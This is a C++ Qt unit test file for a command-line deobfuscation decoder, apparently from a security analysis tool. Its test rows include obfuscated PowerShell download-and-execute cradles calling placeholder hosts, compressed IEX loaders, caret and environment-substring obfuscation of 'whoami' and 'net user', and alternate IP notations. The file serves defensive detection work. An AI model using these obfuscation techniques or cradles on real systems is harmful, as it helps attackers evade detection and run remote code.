// Decoder: one data row per transform and per lenient-decoding case.
#include "cmdline/decoder.h"
#include "cmdline/transforms.h"

#include <QTest>

using namespace causa;

namespace {

const char *kEnc = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A"; // Write-Output hello
const char *kNested = "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABWAHcAQgB5AEEARwBrAEEAZABBAEIAbABBAEMAMABBAFQAdwBCADEAQQBIAFEAQQBjAEEAQgAxAEEASABRAEEASQBBAEIAdQBBAEcAVQBBAGMAdwBCADAAQQBHAFUAQQBaAEEAQQA9AA==";
const char *kAscii = "SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjcvYScp";
const char *kGzip = "H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFIr8osKEhNUShIrMzJT0wBAGw1Y1IcAAAA";
const char *kDeflate = "Cy/KLEnV9S8tKSgtUUhJTctJLElNUShIrMzJT0wBAA==";
const char *kNoPad = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABwAGEAZAA";

QString s(const char *c) { return QString::fromUtf8(c); }

QStringList transforms(const QList<DecodeLayer> &layers)
{
    QStringList t;
    for (const DecodeLayer &l : layers)
        t << l.transform;
    return t;
}

} // namespace

class TestCmdlineDecoder : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void transformsDecode_data();
    void transformsDecode();
    void spansPointIntoParent();
    void lenientNotes_data();
    void lenientNotes();
    void nothingToDecode_data();
    void nothingToDecode();
    void ipv4Notations_data();
    void ipv4Notations();
    void decodesPastOpaqueRuns_data();
    void decodesPastOpaqueRuns();
    void inflateCutIsReported();
};

void TestCmdlineDecoder::transformsDecode_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("transform");
    QTest::addColumn<QString>("expected");

    QTest::newRow("powershell -enc utf16le") << s("powershell -nop -enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("powershell -EncodedCommand") << s("powershell.exe -EncodedCommand ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("powershell -e shortest prefix") << s("pwsh -e ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("powershell -ec alias") << s("powershell -ec ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("powershell /enc slash") << s("powershell /enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("powershell en-dash -enc") << s("powershell \u2013enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("caret-escaped -enc") << s("cmd /c p^owershell -^e^n^c ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("quoted -enc payload") << s("powershell -enc \"") + s(kEnc) + s("\"") << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("quoted long -enc payload") << s("powershell -enc \"") + s(kNested) + s("\"") << "base64-utf16le" << "Write-Output nested";
    QTest::newRow("long -enc payload split by quotes") << s("powershell -enc \"") + s(kNested).left(40) + s("\"") + s(kNested).mid(40) << "base64-utf16le" << "Write-Output nested";
    QTest::newRow("nested base64 double") << s("powershell -enc ") + s(kNested) << "base64-utf16le" << "Write-Output nested";
    QTest::newRow("base64 ascii token") << s("cmd /c echo ") + s(kAscii) << "base64-ascii" << "DownloadString('http://203.0.113.7/a')";
    QTest::newRow("gzip in base64") << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('") + s(kGzip) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()") << "gzip" << "Write-Output gzipped payload";
    QTest::newRow("deflate in base64") << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('") + s(kDeflate) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()") << "deflate" << "Write-Output deflated payload";
    QTest::newRow("char codes concatenated") << s("[char]73+[char]69+[char]88") << "char-codes" << "'IEX'";
    QTest::newRow("char codes hex") << s("[CHAR]0x49 + [char]0x45+[char]0x58") << "char-codes" << "'IEX'";
    QTest::newRow("char array") << s("-join [char[]](73,69,88)") << "char-codes" << "'IEX'";
    QTest::newRow("char pipe foreach") << s("((73,69,88)|%{[char]$_}) -join ''") << "char-codes" << "'IEX'";
    QTest::newRow("string concat") << s("$m = 'Down'+'load'+\"String\"") << "concat" << "'DownloadString'";
    QTest::newRow("format operator") << s("(\"{2}{0}{1}\" -f 'load','String','Down')") << "format-operator" << "'DownloadString'";
    QTest::newRow("backticks") << s("I`E`X (N`ew-Ob`ject Net.WebClient)") << "backtick" << "IEX (New-Object Net.WebClient)";
    QTest::newRow("cmd carets") << s("c^m^d /c w^h^o^a^m^i") << "caret" << "cmd /c whoami";
    QTest::newRow("env substring comspec") << s("%COMSPEC:~-7,3% /c whoami") << "env-substring" << "cmd /c whoami";
    QTest::newRow("env substring padded dosfuscation") << s("%ProgramData:~  0,1%%ProgramData:~  -9,  1%") << "env-substring" << "Co";
    QTest::newRow("set variable concatenation") << s("cmd /c \"set a=who&&set b=ami&&call %a%%b%\"") << "set-variable" << "call whoami";
    QTest::newRow("set variable substitution") << s("cmd /c \"set x=nXt usXr&&call %x:X=e%\"") << "set-variable" << "call net user";
    QTest::newRow("reverse index") << s("('gnirtSdaolnwoD'[-1..-14] -join '')") << "reverse" << "'DownloadString'";
    QTest::newRow("reverse whole line") << s(")'1a/7.311.0.302//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI") << "reverse" << "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a1')";
    QTest::newRow("replace operator") << s("('DowXXnloadString' -replace 'XX','')") << "replace" << "'DownloadString'";
    QTest::newRow("replace method") << s("'DowZZnloadString'.Replace('ZZ','')") << "replace" << "'DownloadString'";
    QTest::newRow("hex escapes") << s("echo \\x49\\x45\\x58 done") << "hex-escape" << "IEX done";
    QTest::newRow("octal escapes") << s("echo \\111\\105\\130 done") << "hex-escape" << "IEX done";
    QTest::newRow("url encoding") << s("curl http://example.com/%70%61%79%6c%6f%61%64.ps1") << "url-decode" << "http://example.com/payload.ps1";
    QTest::newRow("ip hex in url") << s("iwr http://0xB9DC652A:8080/x") << "ip-normalise" << "http://185.220.101.42:8080/x";
    QTest::newRow("ip decimal in url") << s("iwr http://3232235786/x") << "ip-normalise" << "http://192.168.1.10/x";
    QTest::newRow("ip short form in url") << s("iwr http://127.1/x") << "ip-normalise" << "http://127.0.0.1/x";
    QTest::newRow("ip dotted octal") << s("ping 0300.0250.01.012") << "ip-normalise" << "ping 192.168.1.10";
    QTest::newRow("ip mixed dotted hex in unc") << s("net use \\\\0xC0.0xA8.1.0xA\\c$") << "ip-normalise" << "\\\\192.168.1.10\\c$";
}

void TestCmdlineDecoder::transformsDecode()
{
    QFETCH(QString, line);
    QFETCH(QString, transform);
    QFETCH(QString, expected);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(transforms(layers).contains(transform),
             qPrintable(QStringLiteral("chain: %1").arg(transforms(layers).join(QLatin1String(" > ")))));
    const QString decoded = layers.isEmpty() ? line : layers.last().text;
    QVERIFY2(decoded.contains(expected), qPrintable(QStringLiteral("decoded: ") + decoded));
}

void TestCmdlineDecoder::spansPointIntoParent()
{
    const QString line = s("cmd /c powershell -w hidden -enc ") + s(kNested);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QCOMPARE(transforms(layers), QStringList({QStringLiteral("base64-utf16le"), QStringLiteral("base64-utf16le")}));
    QCOMPARE(line.mid(layers[0].start, layers[0].end - layers[0].start), s(kNested));
    const QString &parent = layers[0].text;
    QCOMPARE(parent.mid(layers[1].start, layers[1].end - layers[1].start),
             QStringLiteral("VwBy") + parent.mid(layers[1].start + 4, layers[1].end - layers[1].start - 4));
    QVERIFY(parent.mid(layers[1].start).startsWith(QLatin1String("VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABuAGUAcwB0AGUAZAA")));
    QCOMPARE(layers[1].text, QStringLiteral("Write-Output nested"));
}

void TestCmdlineDecoder::lenientNotes_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("noteWord");
    QTest::newRow("base64 missing padding") << s("powershell -enc ") + s(kNoPad) << "padding";
    QTest::newRow("ascii payload after -enc") << s("powershell -enc ") + s(kAscii) << "UTF-16LE";
    QTest::newRow("caret inside quotes") << s("cmd /c \"w^h^o^a^m^i\"") << "inside double quotes";
    QTest::newRow("backtick inside single quotes") << s("echo 'I`E`X'") << "single quotes";
    QTest::newRow("replace with regex operators") << s("('a.b.c' -replace '\\.+','')") << "regular-expression";
}

void TestCmdlineDecoder::lenientNotes()
{
    QFETCH(QString, line);
    QFETCH(QString, noteWord);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY(!layers.isEmpty());
    QString notes;
    for (const DecodeLayer &l : layers)
        notes += l.note + QLatin1Char('|');
    QVERIFY2(notes.contains(noteWord), qPrintable(notes));
}

void TestCmdlineDecoder::nothingToDecode_data()
{
    QTest::addColumn<QString>("line");
    QTest::newRow("conhost force v1") << s("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    QTest::newRow("osascript -e is not an encoded command") << s("osascript -e 'display dialog \"hello\"'");
    QTest::newRow("plain admin command") << s("sc query wuauserv");
    QTest::newRow("sha256 argument is not base64 text") << s("certutil -hashfile C:\\x.exe SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    QTest::newRow("version numbers are not addresses") << s("msiexec /i app-10.0.19041.1.msi /qn");
    QTest::newRow("regex anchor is not a caret escape") << s("powershell Get-ChildItem | ? { $_.Name -match '^abc' }");
}

void TestCmdlineDecoder::nothingToDecode()
{
    QFETCH(QString, line);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(layers.isEmpty(), qPrintable(transforms(layers).join(QLatin1Char(','))));
}

void TestCmdlineDecoder::ipv4Notations_data()
{
    QTest::addColumn<QString>("written");
    QTest::addColumn<QString>("canonical");
    QTest::newRow("hex integer") << "0xB9DC652A" << "185.220.101.42";
    QTest::newRow("decimal integer") << "3118228778" << "185.220.101.42";
    QTest::newRow("octal integer") << "027167062452" << "185.220.101.42";
    QTest::newRow("dotted hex") << "0xB9.0xDC.0x65.0x2A" << "185.220.101.42";
    QTest::newRow("dotted octal") << "0271.0334.0145.052" << "185.220.101.42";
    QTest::newRow("mixed dotted") << "0xB9.220.0145.42" << "185.220.101.42";
    QTest::newRow("two parts") << "185.14443818" << "185.220.101.42";
    QTest::newRow("three parts") << "185.220.25898" << "185.220.101.42";
    QTest::newRow("short loopback") << "127.1" << "127.0.0.1";
}

void TestCmdlineDecoder::ipv4Notations()
{
    QFETCH(QString, written);
    QFETCH(QString, canonical);
    quint32 ip = 0;
    QVERIFY(detail::parseIpv4Lenient(written, &ip));
    QCOMPARE(detail::ipv4ToString(ip), canonical);
    QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("256.1.1.1"), &ip));
    QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("1.2.3.4.5"), &ip));
    QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("0x1G"), &ip));
}

void TestCmdlineDecoder::decodesPastOpaqueRuns_data()
{
    // Transforms step over long base64-looking runs found by the layer scan: what sits before
    // or after such a run must still be decoded exactly as without it.
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("transform");
    QTest::addColumn<QString>("expected");
    QString noise;
    const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (int i = 0; i < 300000; ++i)
        noise += QLatin1Char(alphabet[(quint64(i) * 7919u + quint64(i) / 13u) % 64u]);
    const QString pad = s("cmd /c echo ") + noise + s(" & ");
    QTest::newRow("-enc after a 300k token") << pad + s("powershell /enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("-enc before a 300k token") << s("powershell -enc ") + s(kEnc) + s(" ") + noise << "base64-utf16le" << "Write-Output hello";
    QTest::newRow("reversed line after a 300k token") << pad + s("')a/moc.elpmaxe//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(") << "reverse" << "DownloadString";
    QTest::newRow("-replace after a 300k token") << pad + s("('wXoami' -replace 'X','h')") << "replace" << "whoami";
    QTest::newRow("[char] codes after a 300k token") << pad + s("[char[]](73,69,88) -join ''") << "char-codes" << "'IEX'";
    QTest::newRow("-f after a 300k token") << pad + s("(\"{1}{0}\" -f 'X','IE')") << "format-operator" << "'IEX'";
    QTest::newRow("base64 after a 300k token") << pad + s(kAscii) << "base64-ascii" << "DownloadString('http://203.0.113.7/a')";
    QTest::newRow("decodable 300k base64 run") << s("cmd /c echo ") + QString::fromLatin1(QByteArray("Write-Output decodable ").repeated(10000).toBase64()) << "base64-ascii" << "Write-Output decodable";
}

void TestCmdlineDecoder::decodesPastOpaqueRuns()
{
    QFETCH(QString, line);
    QFETCH(QString, transform);
    QFETCH(QString, expected);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(transforms(layers).contains(transform),
             qPrintable(QStringLiteral("chain: %1").arg(transforms(layers).join(QLatin1String(" > ")))));
    QVERIFY(layers.last().text.contains(expected));
}

void TestCmdlineDecoder::inflateCutIsReported()
{
    // 9 MB of text deflated to a few kilobytes: the decoder keeps 8 MB and says so. (qCompress
    // writes a 4-byte length and a 2-byte zlib header before the raw deflate stream.)
    const QByteArray plain = QByteArray("Write-Output x; ").repeated(9 * 1024 * 1024 / 16);
    const QByteArray raw = qCompress(plain, 9).mid(6);
    const QString line = s("powershell IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
                           "[IO.MemoryStream][Convert]::FromBase64String('")
        + QString::fromLatin1(raw.toBase64()) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()");
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(transforms(layers).contains(QStringLiteral("deflate")), qPrintable(transforms(layers).join(QLatin1Char(','))));
    QString notes;
    for (const DecodeLayer &l : layers)
        notes += l.note + QLatin1Char('|');
    QVERIFY2(notes.contains(QLatin1String("truncated at 8388608 bytes")), qPrintable(notes));
}

QTEST_GUILESS_MAIN(TestCmdlineDecoder)
#include "tst_cmdlinedecoder.moc"
